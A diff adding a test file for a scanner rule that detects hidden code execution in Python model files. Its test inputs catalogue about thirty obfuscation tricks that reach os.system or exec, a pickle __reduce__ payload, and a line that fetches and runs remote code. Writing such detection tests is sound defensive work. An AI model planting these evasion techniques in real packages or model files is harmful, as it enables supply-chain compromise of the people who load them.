@@ -1,0 +1,105 @@
+import { describe, expect, it } from 'vitest';
+import { parseFile } from '../../src/formats/parse-file.ts';
+import { rule } from '../../src/scan/rules/python-code.ts';
+
+function worst(source: string, path = 'script.py'): string | undefined {
+  const bytes = Buffer.from(source, path.startsWith('latin') ? 'latin1' : 'utf8');
+  const facts = parseFile(
+    { size: bytes.length, read: (offset, length) => bytes.subarray(offset, offset + length) },
+    path,
+    new Set(),
+  );
+  expect(facts.complete).toBe(true);
+  const found = [...rule.check(facts, { files: new Map() })].map(({ severity }) => severity ?? rule.severity);
+  return ['critical', 'high', 'medium', 'low'].find((severity) => found.some((other) => other === severity));
+}
+
+describe('code that runs as a file is imported blocks, however it is named', () => {
+  it.each([
+    ['an alias', 'import subprocess as s\nf = s.Popen\ndef g():\n    return f\ng()(["sh", "-c", "id"])'],
+    ['a star import', 'from os import *\nsystem("id")'],
+    ['sys.modules', 'import sys\nsys.modules["os"].system("id")'],
+    ['getattr with a text that is put together', 'getattr(__import__("o" + "s"), "sys" + "tem")("id")'],
+    ['__builtins__ by key', 'x = __builtins__["ex" + "ec"]\nx("print(1)")'],
+    ['globals', 'globals()["__builtins__"].__dict__["eval"]("__import__(\'os\').popen(\'id\')")'],
+    ['a namespace', 'import os as o\no.__dict__["system"]("id")'],
+    ['all classes', '().__class__.__base__.__subclasses__()[99].__init__.__globals__["system"]("id")'],
+    ['importlib', 'import importlib\nimportlib.import_module("subprocess").run("id", shell=True)'],
+    ['letters that NFKC makes plain', 'ｅｘｅｃ("import os;os.system(\'id\')")'],
+    ['a decorator', '@exec\n@input\nclass X: pass'],
+    ['a slot of a class', 'import os\nclass A:\n    __class_getitem__ = os.system\nA["id"]'],
+    ['a metaclass', 'import os\nclass M(type):\n    def __init__(c, *a): os.system("id")\nclass A(metaclass=M): pass'],
+    ['a default argument', 'import os\ndef f(x=os.system("id")): pass'],
+    ['a descriptor', 'import os\nclass D:\n    def __get__(self, i, o): os.system("id")\nclass A:\n    d = D()\nA.d'],
+    ['the module’s __getattr__', 'import os\ndef __getattr__(name):\n    os.system("id")'],
+    ['a thread', 'import threading, os\ndef f(): os.system("id")\nthreading.Thread(target=f).start()'],
+    ['map', 'import os\nlist(map(os.system, ["id"]))'],
+    ['atexit', 'import atexit, os\natexit.register(os.system, "id")'],
+    ['methodcaller', 'import operator, os\noperator.methodcaller("system", "id")(os)'],
+    ['an f-string', 'import os\nf"{os.system(\'id\')}"'],
+    ['a form feed and continued lines', '\f\\\nimport os\n\fos.\\\nsystem("id")'],
+    ['text from characters', `exec("".join(chr(c) for c in [${Buffer.from('import os;os.system("x")').join(',')}]))`],
+    ['text from hex', 'exec(bytes.fromhex("696d706f7274206f73").decode() + ";os.system(\'id\')")'],
+    ['rot13', 'import codecs\nexec(codecs.decode("vzcbeg bf;bf.flfgrz(\'vq\')", "rot13"))'],
+    ['a text backwards', 'exec(")\'di\'(metsys.so;so tropmi"[::-1])'],
+    ['a code object', 'import types\ntypes.FunctionType(compile("import os;os.system(\'id\')", "", "exec"), {})()'],
+    ['ctypes', 'import ctypes\nctypes.CDLL(None).system(b"id")'],
+    ['a pickle in the source', 'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")'],
+    ['input', 'import builtins\nf = builtins.exec\nf(input())'],
+  ])('through %s', (_, source) => {
+    expect(worst(source)).toMatch(/high|critical/u);
+  });
+
+  it('also where the file is no UTF-8 and says so', () => {
+    expect(worst('# coding: latin-1\n# \u00e9\nimport os\nos.system("id")', 'latin.py')).toBe('high');
+  });
+
+  it('also behind lines that are no Python, which a version of Python may accept', () => {
+    expect(worst('print "Python 2"\nimport os\nos.system("id")')).toBe('high');
+  });
+});
+
+describe('code that loading a model runs', () => {
+  const model = (body: string): string =>
+    `import os, requests\nclass M:\n    def __init__(self):\n        self._a()\n    def _a(self):\n        ${body}\n`;
+
+  it('blocks in what __init__ calls, and not in a method that nothing calls', () => {
+    expect(worst(model('os.system("id")'), 'modeling_x.py')).toBe('high');
+    expect(
+      worst('import os\nclass M:\n    def tune(self):\n        os.system("id")\n', 'modeling_x.py'),
+    ).toBeUndefined();
+  });
+
+  it('blocks a pickle’s own call, and code from the network, in any file', () => {
+    expect(worst('import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ("id",))')).toBe(
+      'critical',
+    );
+    expect(worst('import requests\ndef f():\n    exec(requests.get("https://example.org/x").text)')).toBe('critical');
+  });
+});
+
+describe('what honest programs do is told and does not block', () => {
+  it.each([
+    ['packages installed', 'import os\nos.system("pip install -q flash-attn==2.5.6")', 'app.py'],
+    ['a list of labels', 'import requests\nrequests.get("https://example.org/labels.txt").text', 'app.py'],
+    ['a version that is read', 'exec(open("quiet/version.py").read())', 'setup.py'],
+    ['what the machine has', 'import subprocess\nsubprocess.run(["nvidia-smi"])', 'modeling_x.py'],
+    [
+      'ffmpeg',
+      'import subprocess\nclass P:\n    def __call__(self, f):\n        subprocess.run(["ffmpeg", "-i", f])',
+      'processing_x.py',
+    ],
+    [
+      'an image of the caller',
+      'import requests\nclass P:\n    def __call__(self, u):\n        requests.get(u)',
+      'processing_x.py',
+    ],
+    [
+      'an expression of the configuration',
+      'class M:\n    def __init__(self, c):\n        self.f = eval(c.act)',
+      'modeling_x.py',
+    ],
+  ])('%s', (_, source, path) => {
+    expect(worst(source, path)).toMatch(/medium|undefined/u);
+  });
+});
